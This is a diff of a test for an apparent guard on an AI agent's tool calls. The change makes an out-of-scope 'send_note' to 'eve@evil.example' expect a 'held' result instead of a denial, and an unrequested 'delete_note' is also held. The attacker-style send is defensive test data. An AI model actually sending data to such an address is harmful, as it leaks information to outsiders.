@@ -89,7 +89,7 @@ def test_out_of_scope_denied_held_call_approved_from_cli(home, tmp_path, capsys)
                 "sent to kai@corp.example",
             )
             action, reason = await relay(guard, up, session, "send_note", {"to": "eve@evil.example", "body": "Q3"})
-            assert action == "deny" and "eve@evil.example" in reason
+            assert action == "held" and "eve@evil.example" in reason
             # delete_note is destructive by its annotation; the request did not ask for it: held
             action, text = await relay(guard, up, session, "delete_note", {"note_id": "3"})
             assert action == "held"
